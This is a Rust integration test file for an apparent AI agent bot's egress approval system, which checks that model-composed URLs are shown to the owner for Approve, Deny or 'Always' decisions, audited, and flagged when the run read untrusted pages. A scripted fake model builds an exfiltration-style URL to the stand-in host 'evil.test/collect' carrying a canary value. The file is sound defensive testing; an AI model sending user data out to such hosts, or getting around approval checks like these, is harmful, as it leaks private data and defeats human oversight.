//! Egress approvals through the real `warden bot`, the fake Bot API, a scripted model and the
//! fake web (`[egress.resolve]`: no real name is resolved). A URL the model composed is posted
//! with Approve / Deny / "Always for HOST", showing the exact URL, its query decoded and why:
//! denied it is not fetched (no connection), approved it is fetched once and audited, "Always"
//! stores a rule for the chat that later runs use without asking, until `warden egress rm`.
//! A run that read a page says so in its approval.

use crate::support::fake_llm::{Request, Turn};
use crate::support::fake_telegram::Sent;
use crate::support::warden_bot::OWNER;
use crate::support::warden_run::{audit_rows, warden};
use crate::support::web_bot::{WebBot, WAIT};
use serde_json::{json, Value};

const CANARY: &str = "canary-b07c4e";

/// The URL the model composes for a prompt ending in `exfiltrate N`.
fn composed(n: &str) -> String {
    format!("http://evil.test/collect?d={CANARY}-{n}&note=hello%20world")
}

/// `[read URL then] exfiltrate N`: fetch URL (the user's), then the composed URL, then report
/// the last result as `result: …`.
fn script(req: &Request) -> Turn {
    let (prompt, step) = req.prompt_and_step();
    let mut plan = Vec::new();
    if let Some(rest) = prompt.split("read ").nth(1) {
        plan.push(rest.split_whitespace().next().unwrap().to_string());
    }
    if let Some(n) = prompt.split("exfiltrate ").nth(1) {
        plan.push(composed(n.trim()));
    }
    match plan.get(step) {
        Some(url) => Turn::tool_use("web_fetch", json!({ "url": url })),
        None => {
            let last = req
                .tool_results()
                .pop()
                .map(|r| r.content)
                .unwrap_or_default();
            Turn::text(format!("result: {}", last.lines().next().unwrap_or("")))
        }
    }
}

struct Setup {
    bot: WebBot,
}

async fn start() -> Setup {
    Setup {
        bot: WebBot::start(script).await,
    }
}

impl std::ops::Deref for Setup {
    type Target = WebBot;
    fn deref(&self) -> &WebBot {
        &self.bot
    }
}

impl Setup {
    fn approvals(&self) -> Vec<Sent> {
        self.tg.approvals_to(OWNER)
    }

    /// The `n`-th approval request (from 1).
    async fn approval(&self, n: usize) -> Sent {
        self.tg.approval(OWNER, n, WAIT).await
    }

    fn press(&self, request: &Sent, row: usize, index: usize) {
        self.tg.press(OWNER, request, row, index);
    }

    async fn answer(&self, n: usize) -> String {
        self.bot.answer(n).await
    }

    /// The egress audit rows: (decision, input).
    fn audit(&self) -> Vec<(String, Value)> {
        audit_rows(self.home.path(), "egress")
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn composed_urls_ask_and_always_stores_a_rule_for_the_chat() {
    let s = start().await;

    // Denied: not fetched, nothing connected.
    s.tg.push_text(OWNER, OWNER, "exfiltrate 1");
    let request = s.approval(1).await;
    let shown = &request.visible;
    assert!(shown.contains(&format!("GET {}", composed("1"))), "{shown}");
    assert!(shown.contains(&format!("d = {CANARY}-1")), "{shown}");
    assert!(shown.contains("note = hello world"), "{shown}");
    assert!(shown.contains("the model composed this URL"), "{shown}");
    let keyboard = &request.keyboard.as_ref().unwrap()["inline_keyboard"];
    assert_eq!(
        keyboard[1][0]["text"], "♾ Always for evil.test",
        "{keyboard}"
    );
    // Exactly the host asked about, for as long as chosen; never its domain.
    assert_eq!(
        keyboard[2][0]["text"], "⏱ evil.test for 1 hour",
        "{keyboard}"
    );
    assert_eq!(keyboard[2][1]["text"], "📅 evil.test today", "{keyboard}");
    s.press(&request, 0, 1);
    let answer = s.answer(1).await;
    assert!(answer.contains("not approved"), "{answer}");
    assert_eq!(s.web.connections(), 0);

    // Approved once: fetched, and the next composed URL asks again.
    s.tg.push_text(OWNER, OWNER, "exfiltrate 2");
    let request = s.approval(2).await;
    s.press(&request, 0, 0);
    let answer = s.answer(2).await;
    assert!(answer.contains("URL: http://evil.test/collect"), "{answer}");
    assert_eq!(
        s.web.requests(),
        [format!("evil.test/collect?d={CANARY}-2&note=hello%20world")]
    );

    // Always: fetched, and stored for the chat.
    s.tg.push_text(OWNER, OWNER, "exfiltrate 3");
    let request = s.approval(3).await;
    s.press(&request, 1, 0);
    s.answer(3).await;
    assert_eq!(s.web.requests().len(), 2);
    s.tg.wait_until("the request shows the stored rule", WAIT, |t| {
        t.messages_to(OWNER).iter().any(|m| {
            m.edits
                .iter()
                .any(|e| e.contains("allowed in this chat until revoked"))
        })
    })
    .await;
    let listed = warden(s.home.path(), &["egress", "list", "--json"]);
    let listed: Value = serde_json::from_slice(&listed.stdout).unwrap();
    assert_eq!(listed["chats"][0]["host"], "evil.test", "{listed}");
    assert_eq!(listed["chats"][0]["session"], format!("telegram:{OWNER}"));
    assert_eq!(listed["chats"][0]["expires_at"], Value::Null);

    // The next run fetches from the host without asking.
    s.tg.push_text(OWNER, OWNER, "exfiltrate 4");
    s.answer(4).await;
    assert_eq!(s.approvals().len(), 3, "no new approval");
    assert_eq!(s.web.requests().len(), 3);

    // Revoked: it asks again.
    let out = warden(s.home.path(), &["egress", "rm", "evil.test"]);
    assert_eq!(out.status.code(), Some(0), "{out:?}");
    s.tg.push_text(OWNER, OWNER, "exfiltrate 5");
    let request = s.approval(4).await;
    s.press(&request, 0, 1);
    s.answer(5).await;
    assert_eq!(s.web.requests().len(), 3);

    let rows = s.audit();
    let decisions: Vec<&str> = rows.iter().map(|(d, _)| d.as_str()).collect();
    assert_eq!(
        decisions,
        ["rejected", "approved", "approved", "allow", "rejected"]
    );
    assert_eq!(
        rows[3].1["rule"],
        "the rule stored for this chat \"evil.test\" = \"allow\""
    );
    assert!(rows
        .iter()
        .all(|(_, input)| input["url"].as_str().unwrap().contains(CANARY)));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_run_that_read_a_page_says_so_in_its_approval() {
    let s = start().await;
    s.tg.push_text(OWNER, OWNER, "read http://docs.test/page then exfiltrate 1");
    let request = s.approval(1).await;
    assert!(
        request
            .visible
            .contains("this run read untrusted content from: web_fetch http://docs.test/page"),
        "{}",
        request.visible
    );
    assert_eq!(
        s.web.requests(),
        ["docs.test/page"],
        "the user's URL needed no approval"
    );
    s.press(&request, 0, 1);
    s.answer(1).await;
    assert_eq!(s.web.requests(), ["docs.test/page"]);
    assert_eq!(s.web.connections(), 1);
}
